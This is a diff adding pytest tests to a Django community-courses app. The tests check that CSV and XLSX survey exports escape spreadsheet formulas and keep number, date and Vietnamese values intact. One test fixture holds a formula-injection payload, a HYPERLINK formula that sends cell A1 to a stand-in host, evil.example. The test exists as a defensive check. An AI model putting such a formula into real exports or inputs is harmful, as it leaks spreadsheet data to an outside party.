@@ -1,3 +1,5 @@
+import csv
+import datetime
 import io
 import json
 
@@ -6,7 +8,7 @@ from django.core.management import CommandError, call_command
 import pytest
 from openpyxl import load_workbook
 
-from community_courses.exporting import survey_results_tables, tables_xlsx
+from community_courses.exporting import survey_results_tables, tables_csv, tables_xlsx
 from community_courses.models import SurveyPhase
 from community_courses.selectors.survey_results import survey_results
 from community_courses.services.enrolment import enrolment_create, lesson_complete
@@ -113,3 +115,49 @@ def test_admin_downloads_for_the_centre_staff_only(client, six_pairs, centre_sta
 
     client.force_login(other_librarian)
     assert client.get(url).status_code == 404
+
+
+def _xlsx_cells(content: bytes) -> list:
+    workbook = load_workbook(io.BytesIO(content))
+    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
+    assert all(cell.data_type != "f" for cell in cells)
+    return cells
+
+
+def test_a_formula_answered_in_the_survey_is_text_in_the_csv_and_xlsx(six_pairs, lessons):
+    # Given a participant who answered the free-text question with a formula
+    likert, _confidence, _single, _multiple, text = six_pairs.survey_template.questions.all()
+    enrolment = enrolment_create(course=six_pairs, user=UserFactory(username="hv-cong-thuc"))
+    for lesson in lessons:
+        enrolment = lesson_complete(enrolment=enrolment, lesson=lesson)
+    enrolment.course = six_pairs
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Xem kết quả")'
+    survey_response_submit(
+        enrolment=enrolment,
+        phase=SurveyPhase.AFTER,
+        anonymous=True,
+        answers={str(likert.pk): 4, str(text.pk): formula},
+    )
+    tables = survey_results_tables(survey_results(course=six_pairs))
+
+    # When the results are written as CSV and as XLSX
+    csv_rows = list(csv.reader(io.StringIO(tables_csv(tables).lstrip("\ufeff"))))
+    cells = _xlsx_cells(tables_xlsx(tables))
+
+    # Then the answer is text behind a quote in both; other answers are unchanged
+    assert ["'" + formula] == [row[3] for row in csv_rows if len(row) == 4 and "evil" in row[3]]
+    assert ["'" + formula] == [cell.value for cell in cells if "evil" in str(cell.value)]
+    assert "Góp ý số 1" in [row[3] for row in csv_rows if len(row) == 4]
+
+
+def test_numbers_and_dates_stay_typed_values_and_vietnamese_text_is_unchanged():
+    tables = [("Bảng", ["Nhóm", "Thay đổi", "Ngày"], [["Phường Bến Nghé", -1.25, datetime.date(2026, 3, 25)]])]
+
+    [_title, _header, row] = list(csv.reader(io.StringIO(tables_csv(tables).lstrip("\ufeff"))))
+    cells = _xlsx_cells(tables_xlsx(tables))
+
+    assert row == ["Phường Bến Nghé", "-1.25", "2026-03-25"]
+    ward, change, day = cells[3:]
+    assert (ward.value, ward.data_type) == ("Phường Bến Nghé", "s")
+    assert (change.value, change.data_type) == (-1.25, "n")
+    assert (day.is_date, day.value.date()) == (True, datetime.date(2026, 3, 25))
